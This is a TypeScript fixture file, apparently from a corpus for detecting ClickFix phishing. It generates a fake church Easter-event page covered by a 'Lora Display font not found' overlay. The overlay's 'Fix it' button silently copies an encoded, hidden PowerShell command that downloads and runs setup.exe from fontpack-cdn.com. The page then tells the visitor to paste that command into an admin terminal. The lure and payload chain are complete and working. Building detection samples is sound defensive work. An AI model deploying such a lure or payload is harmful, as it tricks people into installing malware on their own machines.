import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';
import { b64, doc, footer, hexLit, rev } from '../parts/ye-kit.js';

export const entries: Entry[] = [
{
  id: 'ye-clickfix-church-font-missing-enc',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.gracecommunitychurch-ok.org/events/easter-2025',
  body: doc({
    title: 'Easter at Grace 2025 | Grace Community Church, Norman OK',
    css: `body{margin:0;font-family:Georgia,serif;color:#333;background:#fdfcf8}.h{padding:20px;text-align:center;border-bottom:1px solid #e4dccb}.c{max-width:760px;margin:24px auto;padding:0 16px}.blur{filter:blur(4px)}#fx{position:fixed;top:0;left:0;right:0;background:#fff;border-bottom:1px solid #ccc;box-shadow:0 3px 12px rgba(0,0,0,.2);padding:20px;font-family:Arial,sans-serif;z-index:50}#fx h3{margin:0 0 6px;color:#c00}#fx button{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px;font-size:15px}#fx ol{display:none;background:#f3f3f3;padding:12px 30px}`,
    body: `<div id="fx"><h3>The "Lora Display" font was not found.</h3><p>The web page cannot be displayed correctly because the required font is missing from your system. To fix the error and view the content, click "Fix it" and follow the instructions.</p><button id="fix">Fix it</button><ol id="howto"><li>Right-click the Windows Start button and choose <b>Windows PowerShell (Admin)</b> or <b>Terminal (Admin)</b>.</li><li>Right-click inside the window to paste the fix.</li><li>Press Enter. The page will reload automatically.</li></ol></div>
<div class="blur"><div class="h"><h1>Grace Community Church</h1><p>Sunday Worship 9:00 &amp; 10:45 AM &middot; 2210 W Lindsey St</p></div>
<div class="c"><h2>Easter at Grace &mdash; April 20, 2025</h2><p>Join us for Good Friday service at 7 PM and three Easter Sunday services at 8:00, 9:30 and 11:00 AM. Egg hunt for kids after the 9:30 service, rain or shine!</p><p>Childcare is available for all services. Parking overflow at Lincoln Elementary with shuttle.</p></div></div>
<script>
(function(){
var p='${b64('powershell -NoP -W Hidden -EncodedCommand ')}';
var e='${Buffer.from(`$w=New-Object Net.WebClient;$f="$env:TEMP\\fnt.exe";$w.DownloadFile('https://fontpack-cdn.com/lora/setup.exe',$f);Start-Process $f`, 'utf16le').toString('base64')}';
document.getElementById('fix').onclick=function(){var c=atob(p)+e;
var ta=document.createElement('textarea');ta.style.position='fixed';ta.style.opacity='0';ta.value=c;document.body.appendChild(ta);ta.select();document.execCommand('copy');document.body.removeChild(ta);
document.getElementById('howto').style.display='block';this.textContent='Copied! Follow the steps below';};
})();
</script>`,
  }),
},
];
